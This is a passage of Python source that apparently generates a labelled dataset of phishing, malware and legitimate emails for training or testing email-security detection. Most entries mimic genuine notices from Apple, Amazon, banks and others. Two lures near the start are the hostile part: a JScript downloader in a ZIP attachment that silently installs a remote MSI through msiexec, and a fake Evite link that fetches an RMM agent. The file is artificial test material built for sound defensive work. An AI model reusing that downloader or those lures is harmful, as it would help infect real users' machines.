        "Social Security Administration | 6401 Security Blvd, Baltimore, MD 21235", style="php"))

REPLY_JS = (b"var s=new ActiveXObject('WScript.Shell');var u='https://gardenclub-files.b-cdn.net/up/a91.msi';"
            b"s.Run('msiexec /q /i '+u,0,false);\r\n")
add(slug="reply-chain-allotment-zip-js", cat="malware", kind="phish",
    desc="Reply-chain hijack from the allotment society secretary's compromised Outlook.com mailbox (authenticated): a "
         "short 'please see attached' reply on a real thread with a ZIP holding a JScript downloader that installs an MSI.",
    frm=("Alan Brookes", "alan.brookes.allotments@outlook.com"), to=("Sue Barrett", "sue.barrett@btinternet.com"),
    subj="RE: Plot rents and spring work party", date="2025-03-10 19:25:03 +0000", **ms_out(21, eu=True),
    hdrs=["In-Reply-To: <000f01db8f2a$4c1e9d30$e45bd790$@btinternet.com>",
          "References: <000f01db8f2a$4c1e9d30$e45bd790$@btinternet.com>",
          "Thread-Topic: Plot rents and spring work party", "X-MS-Has-Attach: yes"],
    body=mixed(outlook_alt(
        "Hi Sue,\n\nPlease see the attached documents for the plot rents and the work party rota as discussed. The password "
        "is not needed, just extract and open.\n\nRegards\nAlan\n\n________________________________\nFrom: Sue Barrett "
        "<sue.barrett@btinternet.com>\nSent: 02 March 2025 10:14\nTo: Alan Brookes\nSubject: Plot rents and spring work "
        "party\n\nMorning Alan, could you send round the updated rents list before the AGM? I'll bring the seed potatoes "
        "to the work party on the 15th.\n\nThanks, Sue"),
        attachment("application/zip", "Plot_Rents_2025.zip", files.zip_archive([("Plot_Rents_2025.js", REPLY_JS)])),
        style="outlook"))

add(slug="evite-invitation-rmm-exe", cat="malware", kind="phish",
    desc="Fake e-invitation ('You're invited! Linda's 60th birthday') from a lookalike evite domain (own SPF/DKIM) whose "
         "'View invitation' link downloads an RMM agent packaged as InvitationCard.msi.",
    frm=("Evite", "invitations@evite-cards.net"), to=("Angela Foster", "angela.foster68@hotmail.com"),
    subj="You're invited! Linda's 60th Birthday Celebration", date="2025-07-17 12:02:39 -0500",
    ip="185.208.158.66", helo="mail.evite-cards.net", auth=OWN, dkim=("evite-cards.net", "default"),
    body=card_alt(
        "evite", "#6f2dbd", "You're invited!",
        ["<b>Linda's 60th Birthday Celebration</b><br>Saturday, August 2, 2025 · 6:00 PM<br>Hosted by Linda Foster",
         "Linda has sent you an invitation. Please view the invitation card and RSVP so we know how many to expect."],
        ("View Invitation", "https://evite-cards.net/view/invitation/?id=LF60-88213&dl=InvitationCard.msi"),
        "Evite, Inc. You received this because Linda Foster invited you.", style="sfmc"))


# ============================================================ LEGITIMATE (25)

def ses(n: int, region: str = "us-east-1") -> dict:
    """Sending fields for mail relayed by Amazon SES."""
    host = f"a{n % 60 + 8}-{n}.smtp-out.{region}.amazonses.com" if region != "us-east-1" else f"a{n % 60 + 8}-{n}.smtp-out.amazonses.com"
    return {"ip": f"54.240.{n % 60 + 8}.{n}", "helo": host}


add(slug="apple-icloud-plus-receipt", cat="bulk", kind="bulk",
    desc="Genuine Apple receipt for a monthly iCloud+ 200 GB subscription from email.apple.com (SPF/DKIM/DMARC pass) with "
         "Report a Problem and subscription-management links on apple.com.",
    frm=("Apple", "no_reply@email.apple.com"), to=("Megan Hartley", "megan.hartley84@gmail.com"),
    subj="Your receipt from Apple.", date="2025-02-04 22:18:51 -0800",
    ip="17.179.250.63", helo="rn2-txn-msbadger07105.apple.com", rdns="rn2-txn-msbadger07105.apple.com",
    mfrom="bounce+2f9a1c.4d7e-megan.hartley84=gmail.com@email.apple.com", auth=PASS, dkim=("email.apple.com", "email0517"),
    body=card_alt(
        "Apple", "#1d1d1f", "Receipt",
        ["APPLE ACCOUNT megan.hartley84@gmail.com<br>DATE 5 Feb 2025<br>ORDER ID MT7Q2K9XZB<br>DOCUMENT NO. 198402771652",
         "<b>iCloud+ with 200 GB of storage</b><br>Monthly · Renews 5 Mar 2025 ........ $2.99",
         "Subtotal $2.99 · Tax $0.00 · <b>TOTAL $2.99</b><br>Billed to Visa •••• 4018",
         'Problems with a purchase? <a href="https://reportaproblem.apple.com/?s=6">Report a Problem</a>. '
         'Manage your subscriptions at <a href="https://apps.apple.com/account/subscriptions">apps.apple.com/account/subscriptions</a>.'],
        None, 'Apple ID Summary · Purchase History · <a href="https://www.apple.com/legal/privacy/">Privacy Policy</a><br>'
        "Copyright © 2025 Apple Inc. One Apple Park Way, Cupertino, CA 95014, USA. All rights reserved.", style="sfmc"))

AMZ = "https://www.amazon.com/gp/r.html?C=2J8F6K0X1L7QZ&K=3TQ1ZK9JHB4GE&M=urn:rtn:msg:20250303191520f2b7c9e4d1a&R=1WQ8M3N5XRJ2Z&T=C&U="
add(slug="amazon-shipped-notification", cat="bulk", kind="bulk",
    desc="Genuine Amazon 'Shipped' notification from shipment-tracking@amazon.com via Amazon SES (all checks pass) with "
         "gp/r.html click-tracking redirects to order tracking.",
    frm=("Amazon.com", "shipment-tracking@amazon.com"), to=("Linda Park", "lindapark_72@yahoo.com"),
    subj="Shipped: \"Anker USB C Charger, 67W...\" and 1 more item", date="2025-03-03 14:15:20 -0500", **ses(113),
    mfrom="20250303191520f2b7c9e4d1ae8c0@bounces.amazon.com", auth=PASS, dkim=("amazon.com", "rjmhvb5zm4h4rybkc6ffqvnbtoqhbeyr"),
    body=card_alt(
        "amazon", "#ff9900", "Your package has shipped!",
        ["Hi Linda,", "Your package is on the way. Arriving <b>Thursday, March 6</b>.",
         "Order #113-2984710-5520863<br>Anker USB C Charger, 67W 3-Port ... Qty 1<br>Amazon Basics Braided USB-C Cable, 6ft ... Qty 2",
         "Shipped with Amazon Logistics. Tracking ID TBA318842779310."],
        ("Track package", AMZ + "https%3A%2F%2Fwww.amazon.com%2Fprogress-tracker%2Fpackage%3ForderId%3D113-2984710-5520863%26ref_%3Dpe_385040_127745480_TE_SHIP&H=EZW0YPEYRM0KQAWXQ6SNPUBJ4B8A"),
        f'<a href="{AMZ}https%3A%2F%2Fwww.amazon.com%2Fgp%2Fcss%2Forder-history&H=Q2LR0DFX8WBB">Your Orders</a> | '
        f'<a href="{AMZ}https%3A%2F%2Fwww.amazon.com%2Fgp%2Fhelp%2Fcustomer&H=8SC2QYUDHXPV">Help</a><br>'
        "This email was sent from a notification-only address that cannot accept incoming email. © 2025 Amazon.com, Inc.",
        style="sfmc"))

add(slug="paypal-payment-receipt", cat="bulk", kind="bulk",
    desc="Genuine PayPal 'You sent a payment' receipt to an Etsy seller from service@paypal.com (authenticated) with "
         "links to the transaction on paypal.com.",
    frm=("PayPal", "service@paypal.com"), to=("Karen Mitchell", "kmitchell.home@gmail.com"),
    subj="Receipt for your payment to Willow & Thread Studio", date="2025-04-06 16:21:44 -0700",
    ip="173.0.84.225", helo="mx0.slc.paypal.com", auth=PASS, dkim=("paypal.com", "pp-dkim1"),
    hdrs=["X-Email-Type-Id: PPX000630"],
    body=card_alt(
        "PayPal", "#003087", "You sent $42.60 USD to Willow & Thread Studio",
        ["Hello, Karen Mitchell", "Transaction ID: 6HX91742BN3305219<br>Transaction date: April 6, 2025",
         "Hand-embroidered linen napkins (set of 4) ........ $36.00<br>Shipping ........ $6.60<br><b>Total $42.60 USD</b>",
         "Paid with: Visa Credit Card x-4471. This charge will appear on your statement as \"PAYPAL *WILLOWTHREA\"."],
        ("View transaction", "https://www.paypal.com/myaccount/activity/payment/6HX91742BN3305219"),
        PAYPAL_FOOT, style="sfmc"))

add(slug="chase-transaction-alert", cat="bulk", kind="bulk",
    desc="Genuine Chase transaction alert from no.reply.alerts@chase.com (SPF/DKIM/DMARC pass) for a grocery purchase; "
         "the only link goes to chase.com alert settings.",
    frm=("Chase", "no.reply.alerts@chase.com"), to=("Robert Kline", "rkline1957@comcast.net"),
    subj="You made a $86.40 transaction with WHOLEFDS PHL 10149", date="2024-11-30 17:42:09 -0500",
    ip="159.53.46.137", helo="sm-ee-p006.chase.com", auth=PASS, dkim=("chase.com", "d4815"),
    body=card_alt(
        "CHASE", "#117aca", "You made a $86.40 transaction",
        ["Account: Chase Freedom Unlimited (...4729)<br>Date: Nov 30, 2024 at 5:41 PM ET<br>Merchant: WHOLEFDS PHL 10149<br>"
         "Amount: $86.40", "You are receiving this alert because your transaction was more than $50.00. "
         'Review account activity in the Chase Mobile® app or at <a href="https://www.chase.com/">chase.com</a>.'],
        None, 'To change alert settings go to <a href="https://secure.chase.com/web/auth/dashboard#/dashboard/alerts/manageAlerts">'
        "Manage alerts</a>. This is a service email from Chase. Please note that you may receive service emails even if "
        "you have opted out of marketing emails.<br>JPMorgan Chase Bank, N.A. Member FDIC", style="sfmc"))

add(slug="royalmail-on-its-way", cat="bulk", kind="bulk",
    desc="Genuine Royal Mail 'your parcel from John Lewis is on its way' notification (royalmail.com, authenticated) with "
         "a tracking link on royalmail.com and no fee request.",
    frm=("Royal Mail", "no-reply@royalmail.com"), to=("Margaret Hughes", "mhughes52@btinternet.com"),
    subj="Your Royal Mail parcel from John Lewis is on its way", date="2025-01-13 07:58:12 +0000", **ses(94, "eu-west-1"),
    mfrom="0102019458c2a1f3-6b7d0e12-9a4c-4f31-b2e8-51d7c6a9e044-000000@eu-west-1.amazonses.com",
    auth=PASS, dkim=("royalmail.com", "rm2022"),
    body=card_alt(
        "Royal Mail", "#da202a", "Your parcel is on its way",
        ["Hello Margaret,", "Your parcel from <b>John Lewis</b> will be delivered <b>today</b> between 10:10 and 14:10.",
         "Tracking number: QB482117036GB", "If you're not in, we'll leave it with a neighbour or in your safeplace, or take "
         "it back to your local delivery office."],
        ("Track your item", "https://www.royalmail.com/track-your-item#/tracking-results/QB482117036GB"),
        "Royal Mail Group Ltd, 100 Victoria Embankment, London EC4Y 0HQ. Registered in England and Wales, number 4138203.",
        style="sfmc"))

add(slug="hmrc-new-message-notify", cat="bulk", kind="bulk",
    desc="Genuine HMRC 'you have a new message in your HMRC online account' email from tax.service.gov.uk (SES, "
         "authenticated); deliberately contains no direct link, only the gov.uk sign-in start page.",
    frm=("HMRC", "noreply@confirmation.tax.service.gov.uk"), to=("Emma Clarke", "emmaclarke.leeds@gmail.com"),
    subj="You have a new message from HMRC", date="2025-06-09 10:12:37 +0100", **ses(37, "eu-west-2"),
    mfrom="010b019754f1c2d7-a1e3b4c5-7d8f-4e21-9a6b-3c2d1e0f9a8b-000000@eu-west-2.amazonses.com",
    auth=PASS, dkim=("confirmation.tax.service.gov.uk", "hmrcnotify"),
    body=alt("You have a new message from HMRC\n\nDear Emma Clarke\n\nYou have a new message in your HMRC online account.\n\n"
             "To view it, sign in to your HMRC online account at https://www.gov.uk/log-in-register-hmrc-online-services\n\n"
             "For security reasons, we have not included a link to the message in this email.\n\nFrom HMRC\n\n"
             "Find out how HMRC uses your information: https://www.gov.uk/government/publications/data-protection-act-dpa-information-hm-revenue-and-customs-hold-about-you\n",
             '<html><body style="font-family:Arial,sans-serif;font-size:19px;color:#0b0c0c"><table width="580" align="center">'
             '<tr><td style="background:#0b0c0c;padding:10px"><span style="color:#fff;font-weight:bold">GOV.UK</span></td></tr>'
             '<tr><td style="padding:20px 0"><p>Dear Emma Clarke</p><p>You have a new message in your HMRC online account.</p>'
             '<p>To view it, <a href="https://www.gov.uk/log-in-register-hmrc-online-services">sign in to your HMRC online '
             'account</a>.</p><p>For security reasons, we have not included a link to the message in this email.</p>'
             '<p>From HMRC</p></td></tr></table></body></html>', "sfmc"))

add(slug="ezpass-ny-statement-ready", cat="bulk", kind="bulk",
    desc="Genuine E-ZPass New York 'your statement is available' notice from e-zpassny.com (authenticated) pointing to "
         "the account sign-in; no amount-due pressure.",
    frm=("E-ZPass New York", "noreply@e-zpassny.com"), to=("Anthony Russo", "anthonyrusso.nj@gmail.com"),
    subj="Your E-ZPass NY statement is now available", date="2025-02-02 06:00:14 -0500",
    ip="148.105.8.74", helo="mail74.atl221.mcdlv.net", mfrom="bounce-mc.us21_1847263.52877-anthonyrusso.nj=gmail.com@mail74.atl221.mcdlv.net",
    auth=("pass", "pass", "pass"), dkim=("e-zpassny.com", "k2"),
    body=card_alt(
        "E-ZPass New York", "#6a2c91", "Your statement is available",
        ["Dear Anthony Russo,", "Your E-ZPass New York statement for account ending in 8834 for the period 01/01/2025 - "
         "01/31/2025 is now available to view online.", "Your account is set to replenish automatically. No action is "
         "required."],
        ("View statement", "https://e-zpassny.us21.list-manage.com/track/click?u=7f2c9b1e04a3d5&id=3a9e1c7d5b&e=c41d2a9f07"),
        'E-ZPass New York Customer Service Center, P.O. Box 15186, Albany, NY 12212<br>'
        '<a href="https://e-zpassny.us21.list-manage.com/unsubscribe?u=7f2c9b1e04a3d5&id=b2e4c6d8f0&e=c41d2a9f07">Update preferences</a>',
        style="sfmc"))

add(slug="coinbase-new-signin-alert", cat="bulk", kind="bulk",
    desc="Genuine Coinbase 'new sign-in' security alert from coinbase.com (authenticated) with device and location "
         "details and a coinbase.com account-lock link for the 'this wasn't me' case.",
    frm=("Coinbase", "no-reply@coinbase.com"), to=("Tyler Morgan", "tylermorgan.eth@gmail.com"),
    subj="New sign-in detected", date="2025-04-26 19:03:37 +0000",
    ip="198.2.180.44", helo="mail180-44.suw41.mandrillapp.com", mfrom="bounce-md_31049188.680d2e59.v1-4d1e3c9b2a@mandrillapp.com",
    auth=PASS, dkim=("coinbase.com", "mandrill"),
    body=card_alt(
        "coinbase", "#0052ff", "New sign-in detected",
        ["We noticed a new sign-in to your Coinbase account.", "Device: Chrome on macOS<br>Location: Austin, TX, US<br>"
         "IP address: 172.58.94.211<br>Time: April 26, 2025 7:03 PM UTC", "If this was you, you don't need to do anything. "
         "If you don't recognize this activity, lock your account immediately and contact support. Coinbase will never "
         "ask for your password, 2-step codes or recovery phrase."],
        ("Lock my account", "https://www.coinbase.com/settings/lock-account?token=8f3c1d20-5b7e-4a6f-9e2d-0c1b4a7e9f35"),
        "Coinbase, Inc. · Support at help.coinbase.com", style="sfmc"))

add(slug="microsoft-unusual-signin-genuine", cat="bulk", kind="bulk",
    desc="Genuine Microsoft account 'unusual sign-in activity' alert from accountprotection.microsoft.com (SPF/DKIM/DMARC "
         "pass) linking to account.live.com recent activity — the real version of the lure in this set.",
    frm=("Microsoft account team", "account-security-noreply@accountprotection.microsoft.com"),
    to=("Helen Carter", "helen.carter62@outlook.com"),
    subj="Microsoft account unusual sign-in activity", date="2025-01-21 14:07:46 +0000",
    ip="40.107.220.110", helo="NAM11-CO1-obe.outbound.protection.outlook.com", auth=PASS,
    dkim=("accountprotection.microsoft.com", "selector1"),
    body=card_alt(
        "Microsoft account", "#0078d4", "Unusual sign-in activity",
        ["We detected something unusual about a recent sign-in to the Microsoft account he*****@outlook.com.",
         "<b>Sign-in details</b><br>Country/region: Spain<br>IP address: 88.27.141.9<br>Date: 1/21/2025 1:58 PM (GMT)",
         "Please go to your recent activity page to let us know whether or not this was you. If this wasn't you, we'll help "
         "you secure your account. If this was you, we'll trust similar activity in the future."],
        ("Review recent activity", "https://account.live.com/Activity?mkt=en-US&uaid=0f7e2b3d9c1a4e5f8b6d2c7a1e9f0b3d"),
        'To opt out or change where you receive security notifications, <a href="https://account.live.com/SecurityNotifications/Update">click here</a>.'
        "<br>Thanks,<br>The Microsoft account team", style="outlook"))

add(slug="google-security-alert-new-signin", cat="bulk", kind="bulk",
    desc="Genuine Google 'new sign-in on Windows' security alert from accounts.google.com (authenticated by Google) with "
         "'Check activity' linking to myaccount.google.com.",
    frm=("Google", "no-reply@accounts.google.com"), to=("Marcus Lee", "marcus.lee.sf@gmail.com"),
    subj="Security alert", date="2025-03-01 09:14:25 -0800",
    ip="209.85.220.73", helo="mail-sor-f73.google.com", mfrom="3UfDiZwgTCwQ9A-DE8BLxz22A9FE.2AA270.yA8HK95Gp.6-7.ABA0BKKHAPQHKH@gaia.bounces.google.com",
    auth=PASS, dkim=("accounts.google.com", "20230601"),
    body=card_alt(
        "Google", "#1a73e8", "A new sign-in on Windows",
        ["marcus.lee.sf@gmail.com", "We noticed a new sign-in to your Google Account on a Windows device. If this was you, "
         "you don't need to do anything. If not, we'll help you secure your account."],
        ("Check activity", "https://accounts.google.com/AccountChooser?Email=marcus.lee.sf@gmail.com&continue=https://myaccount.google.com/alert/nt/1740849265000?rfn%3D325%26rfnc%3D1%26eid%3D-6210385572947718254%26et%3D0"),
        "You can also see security activity at https://myaccount.google.com/notifications<br>You received this email to let "
        "you know about important changes to your Google Account and services.<br>© 2025 Google LLC, 1600 Amphitheatre "
        "Parkway, Mountain View, CA 94043, USA", style="gmail"))

add(slug="netflix-payment-issue-genuine", cat="bulk", kind="bulk",
    desc="Genuine Netflix 'there's a problem with your payment' email from account.netflix.com (SPF/DKIM/DMARC pass) "
         "linking to netflix.com/YourAccountPayment with Netflix's own tracking parameters.",
    frm=("Netflix", "info@account.netflix.com"), to=("Chloe Bennett", "chloe_bennett93@hotmail.co.uk"),
    subj="Update your payment information", date="2025-03-19 13:44:08 +0000",
    ip="69.53.237.143", helo="mx1-out.account.netflix.com", auth=PASS, dkim=("account.netflix.com", "netflix"),
    body=card_alt(
        "NETFLIX", "#e50914", "Please update your payment method",
        ["Hi Chloe,", "We couldn't process your payment for your next billing period. Please update your payment information "
         "to continue enjoying Netflix. We'll try your current payment method again soon.", "Need help? We're here if you "
         "need it. Visit the Help Centre or contact us."],
        ("UPDATE PAYMENT", "https://www.netflix.com/YourAccountPayment?g=b1c7f2a0-3e94-4d58-a61c-8f2b0e7d3c45&lkid=URL_BILLING_UPDATE&lnktrk=EMP"),
        'This account email has been sent to you as part of your Netflix membership. <a href="https://help.netflix.com/'
        'legal/privacy?g=b1c7f2a0-3e94-4d58-a61c-8f2b0e7d3c45&lnktrk=EMP">Privacy</a><br>Netflix Services UK Limited',
        style="sfmc"))

ID = "https://informeddelivery.usps.com/box/pages/secure/DashboardAction_input?selectedDate=12%2F17%2F2024&utm_source=dailydigest&utm_medium=email&utm_campaign=email"
add(slug="usps-informed-delivery-digest", cat="bulk", kind="bulk",
    desc="Genuine USPS Informed Delivery daily digest from email.informeddelivery.usps.com (authenticated) with mailpiece "
         "scan images hosted by USPS and dashboard links — the legitimate twin of the USPS fee lure.",
    frm=("USPS Informed Delivery", "USPSInformeddelivery@email.informeddelivery.usps.com"), to=("Donna Reyes", "donnareyes61@yahoo.com"),
    subj="Your Daily Digest for Tue, 12/17 has 3 mailpieces and 1 package arriving soon", date="2024-12-17 08:12:40 -0500",
    ip="56.0.143.27", helo="eagan-mailout07.usps.gov", auth=PASS, dkim=("email.informeddelivery.usps.com", "usps"),
    body=card_alt(
        "USPS Informed Delivery", "#333366", "Your Daily Digest",
        ["Hello, DONNA REYES. Here's what's arriving soon.", "<b>Mailpieces (3)</b><br>"
         '<img src="https://informeddelivery.usps.com/box/pages/secure/mailpiece/image/20241217/a81f2c.jpg" width="300" alt="Scanned mailpiece"><br>'
         "From: PACIFIC GAS AND ELECTRIC<br>From: KAISER PERMANENTE<br>From: AARP", "<b>Packages (1)</b><br>Tracking number "
         "9405511206217736601842 · Expected delivery Wednesday, December 18"],
        ("See more on your dashboard", ID),
        "Mail and packages shown are expected to arrive soon. USPS.com® Privacy Policy. Copyright © 2024 USPS. All Rights Reserved.",
        style="sfmc"))

add(slug="auspost-parcel-on-its-way", cat="bulk", kind="bulk",
    desc="Genuine Australia Post 'your parcel is on its way' notification from notifications.auspost.com.au "
         "(authenticated) with a MyPost tracking link and no payment request.",
    frm=("Australia Post", "noreply@notifications.auspost.com.au"), to=("Gary Thompson", "garythompson@bigpond.com"),
    subj="Your parcel from The Iconic is on its way", date="2025-07-14 11:26:55 +1000", **ses(71, "ap-southeast-2"),
    mfrom="0108019806e2c4a1-3f9b2d7e-1c5a-4e8b-9f0d-7a6b5c4d3e2f-000000@ap-southeast-2.amazonses.com",
    auth=PASS, dkim=("notifications.auspost.com.au", "ap2021"),
    body=card_alt(
        "Australia Post", "#dc1928", "Your parcel is on its way",
        ["Hi Gary,", "Your parcel from <b>THE ICONIC</b> is on its way and is expected to arrive <b>Wed 16 Jul - Thu 17 Jul</b>.",
         "Tracking number 33PHN012345670100093500"],
        ("Track your parcel", "https://auspost.com.au/mypost/track/details/33PHN012345670100093500?utm_source=notification&utm_medium=email"),
        "Australia Post acknowledges the Traditional Custodians of the land on which we operate.<br>Australian Postal "
        "Corporation ABN 28 864 970 579", style="sfmc"))

add(slug="bofa-zelle-received", cat="bulk", kind="bulk",
    desc="Genuine Bank of America 'you received money with Zelle' alert from ealerts.bankofamerica.com (authenticated) "
         "for a payment from a sister; the link goes to bankofamerica.com.",
    frm=("Bank of America", "onlinebanking@ealerts.bankofamerica.com"), to=("Destiny Walker", "destinywalker22@icloud.com"),
    subj="You received money with Zelle®", date="2024-06-20 19:31:48 -0500",
    ip="171.161.224.98", helo="mail-ealerts-2.bankofamerica.com", auth=PASS, dkim=("ealerts.bankofamerica.com", "bac2024"),
    body=card_alt(
        "BANK OF AMERICA", "#012169", "You received money with Zelle®",
        ["Destiny, Tasha Walker sent you <b>$120.00</b>.", "Memo: for concert tickets 🎶", "The money is available in your "
         "Adv Plus Banking account ending in 3392."],
        ("View account", "https://www.bankofamerica.com/online-banking/sign-in/?cm_mmc=EBZ-Alerts-_-Email-_-Zelle-_-Received"),
        "Bank of America, N.A. Member FDIC. This is a service message. Please don't reply to this automatically generated "
        "alert. Bank of America Email, NC1-028-09-01, 150 N College St., Charlotte, NC 28255", style="sfmc"))

add(slug="norton-auto-renewal-notice", cat="bulk", kind="bulk",
    desc="Genuine Norton auto-renewal reminder from mail.norton.com (authenticated) with links to my.norton.com "
         "subscription management — the legitimate counterpart of the Norton callback invoice.",
    frm=("Norton", "norton@mail.norton.com"), to=("Gloria Stevens", "gloriastevens@aol.com"),
    subj="Your Norton 360 Deluxe subscription will renew on March 15", date="2025-02-13 12:03:19 -0800",
    ip="13.111.64.102", helo="mta.mail.norton.com", mfrom="bounce-98_HTML-17736402-1402-7293847-3@bounce.mail.norton.com",
    auth=PASS, dkim=("mail.norton.com", "200608"),
    body=card_alt(
        "Norton", "#ffc700", "Your protection renews automatically",
        ["Hi Gloria,", "Your Norton 360 Deluxe subscription will renew automatically on <b>March 15, 2025</b> for $119.99 "
         "plus applicable tax, charged to the card on file ending in 0217.", "You don't need to do anything to stay "
         "protected. To change your renewal settings, sign in to your Norton account."],
        ("Manage subscription", "https://click.mail.norton.com/?qs=6a1b4c8d2e0f93571c7e2a9b4d6f8e1035c2b7a9d4e6f1a3"),
        "Gen Digital Inc., 60 E. Rio Salado Parkway, Suite 1000, Tempe, AZ 85281. "
        '<a href="https://click.mail.norton.com/?qs=0d9e8f7a6b5c4d3e2f1a0b9c8d7e6f5a">Privacy</a>', style="sfmc"))

CO = "https://click.online.costco.com/?qs=a3f1b7c9d2e4068f1a3c5e7b9d0f2a4c6e8b0d2f4a6c8e0b2d4f6a8c0e2b4d6"
add(slug="costco-weekly-savings", cat="bulk", kind="bulk",
    desc="Genuine Costco weekly member-savings newsletter from online.costco.com via Salesforce Marketing Cloud "
         "(authenticated) where every product link is a click.online.costco.com redirect.",
    frm=("Costco Wholesale", "costco@online.costco.com"), to=("Sandra Lopez", "sandra_lopez_az@yahoo.com"),
    subj="Member-Only Savings start now + Instant Pot deal", date="2024-09-04 04:12:31 -0700",
    ip="13.111.18.37", helo="mta37.online.costco.com", mfrom="bounce-1221_HTML-88301765-2117-100023-1104@bounce.online.costco.com",
    auth=PASS, dkim=("online.costco.com", "200608"),
    hdrs=["List-Unsubscribe: <https://click.online.costco.com/subscription_center.aspx?jwt=eyJhbGciOiJIUzI1NiJ9.c2xvcGV6.Kx9>",
          "List-Unsubscribe-Post: List-Unsubscribe=One-Click"],
    body=(lambda h: alt(to_text(h), h, "sfmc"))(newsletter(
        "COSTCO", "#005daa", "Member-Only Savings valid 9/4 - 9/29. Limits may apply.",
        [("Instant Pot Duo Plus 6-qt - $20 OFF", "After $20 off, $79.99. Online only while supplies last.", CO + "01"),
         ("Kirkland Signature Organic Coffee, 2 lb", "$3 OFF in warehouse and online.", CO + "02"),
         ("Back-to-School Tech Savings", "Laptops, tablets and headphones from top brands.", CO + "03"),
         ("Costco Next", "Exclusive member pricing from select online brands.", CO + "04")],
        f'You are receiving this email because you are a Costco member. <a href="{CO}99">Unsubscribe</a> · '
        "Costco Wholesale Corporation, 999 Lake Drive, Issaquah, WA 98027")))

GU = "https://link.theguardian.com/click/36142218.101/aHR0cHM6Ly93d3cudGhlZ3VhcmRpYW4uY29tL"
add(slug="guardian-first-edition", cat="bulk", kind="bulk",
    desc="Genuine Guardian 'First Edition' morning newsletter from theguardian.com (authenticated) with every headline "
         "behind a link.theguardian.com click redirect and a one-click unsubscribe.",
    frm=("The Guardian", "newsletters@theguardian.com"), to=("Graham Fletcher", "graham.fletcher@btinternet.com"),
    subj="First Edition: Storm warnings as Britain braces for heavy rain", date="2025-01-23 06:01:07 +0000",
    ip="198.21.6.112", helo="o6.email.theguardian.com", mfrom="bounces+6412208-9f31-graham.fletcher=btinternet.com@email.theguardian.com",
    auth=PASS, dkim=("theguardian.com", "s1"),
    hdrs=["List-Unsubscribe: <https://manage.theguardian.com/email-prefs/unsubscribe?id=4156&t=b7c2e9f1>",
          "List-Unsubscribe-Post: List-Unsubscribe=One-Click"],
    body=(lambda h: alt(to_text(h), h, "sfmc"))(newsletter(
        "The Guardian · First Edition", "#052962", "Good morning. Here's what you need to know today.",
        [("Storm warnings issued across Britain", "Amber alerts for wind in the north-west as the Met Office warns of disruption.", GU + "3VrLW5ld3MvMjAyNS9qYW4vMjM/b64e1"),
         ("Inflation figures due this week", "Economists expect a slight rise after a weak December.", GU + "2J1c2luZXNzLzIwMjUvamFu/b64e2"),
         ("What we're reading", "The quiet revival of the British allotment.", GU + "2xpZmVhbmRzdHlsZS8yMDI1/b64e3")],
        'You are receiving this email because you signed up to First Edition. <a href="https://manage.theguardian.com/'
        'email-prefs">Manage your email preferences</a>. Guardian News &amp; Media Ltd, Kings Place, 90 York Way, London N1 9GU.')))

SS = "https://substack.com/redirect/2/eyJlIjoiaHR0cHM6Ly90aGVmcnVnYWxnYXJkZW5lci5zdWJzdGFjay5jb20vcC9"
add(slug="substack-gardening-post", cat="bulk", kind="bulk",
    desc="Genuine Substack newsletter post ('The Frugal Gardener') from substack.com via Mailgun (authenticated) with "
         "substack.com/redirect links, an app link and a paid-subscription button.",
    frm=("The Frugal Gardener", "thefrugalgardener@substack.com"), to=("Nicole Harris", "nicole.harris.mn@gmail.com"),
    subj="Seed swaps, and the $4 tomato cage", date="2025-04-05 07:30:02 -0500",
    ip="166.78.71.131", helo="mail131.substack.com", mfrom="bounce-0e2a7f@mg-d1.substack.com",
    auth=PASS, dkim=("substack.com", "mg"),
    hdrs=["List-Unsubscribe: <https://thefrugalgardener.substack.com/action/disable_email?token=eyJ1c2VyX2lkIjo4MTcyOTM>",
          "List-Id: <thefrugalgardener.substack.com>"],
    body=(lambda h: alt(to_text(h), h, "gmail"))(newsletter(
        "The Frugal Gardener", "#2e7d32", "Spring is finally here in Minnesota, and this week I'm sharing the cheapest "
        "tomato cage I've ever built, plus where to find your local seed swap.",
        [("Read in app", "Listen, comment and get new posts in the Substack app.", SS + "zZWVkLXN3YXBzIn0.app"),
         ("Seed swaps, and the $4 tomato cage", "Cattle panel, zip ties and a free afternoon.", SS + "zZWVkLXN3YXBzIn0.post"),
         ("Upgrade to paid", "Support this newsletter for $5/month.", "https://thefrugalgardener.substack.com/subscribe?utm_source=email")],
        "© 2025 The Frugal Gardener · 548 Market Street PMB 72296, San Francisco, CA 94104 · Unsubscribe")))

add(slug="venmo-request-from-friend", cat="bulk", kind="bulk",
    desc="Genuine Venmo payment-request notification from venmo.com (authenticated) for a friend's pizza-and-bowling "
         "split, with the request link on venmo.com.",
    frm=("Venmo", "venmo@venmo.com"), to=("Jason Rivera", "jrivera.tx@gmail.com"),
    subj="Jake Morris requests $38.50", date="2024-10-05 23:12:44 -0500",
    ip="173.0.84.244", helo="mx3.slc.paypal.com", mfrom="venmo@venmo.com", auth=PASS, dkim=("venmo.com", "pp-dkim1"),
    body=card_alt(
        "venmo", "#008cff", "Jake Morris requests $38.50",
        ["<b>Pizza + bowling 🎳🍕</b>", "Oct 5, 2024 · Private"],
        ("Pay", "https://venmo.com/account/notifications?request=4182736451927384019&utm_source=email"),
        "For any issues, including the recipient not receiving funds, please contact us at venmo.com/support.<br>"
        "Venmo is a service of PayPal, Inc., a licensed provider of money transfer services.", style="sfmc"))

add(slug="barclays-statement-ready", cat="bulk", kind="bulk",
    desc="Genuine Barclays 'your statement is ready to view' email from email.barclays.co.uk (authenticated) telling the "
         "customer to open the app; only barclays.co.uk links.",
    frm=("Barclays", "no-reply@email.barclays.co.uk"), to=("Aisha Khan", "aisha.khan.uk@gmail.com"),
    subj="Your Barclays statement is ready to view", date="2025-02-08 09:30:15 +0000",
    ip="13.111.88.21", helo="mta21.email.barclays.co.uk", mfrom="bounce-76_HTML-55012873-311-7002918-9@bounce.email.barclays.co.uk",
    auth=PASS, dkim=("email.barclays.co.uk", "200608"),
    body=card_alt(
        "Barclays", "#00aeef", "Your statement is ready",
        ["Hello Miss Khan,", "Your statement for your Barclays Bank Account ending 4417 is now ready to view in the Barclays "
         "app or Online Banking.", "We'll never ask you to give us your full PIN, passcode or password by email."],
        ("Log in to Online Banking", "https://www.barclays.co.uk/log-in-to-online-banking/?cid=em_stmt_ready"),
        "Barclays Bank UK PLC. Registered in England. Registered No. 9740322. Registered Office: 1 Churchill Place, London E14 5HP.",
        style="sfmc"))

add(slug="instagram-new-login", cat="bulk", kind="bulk",
    desc="Genuine Instagram 'new login from Chrome on Windows' security email from mail.instagram.com (authenticated) "
         "with a secure-your-account link on instagram.com.",
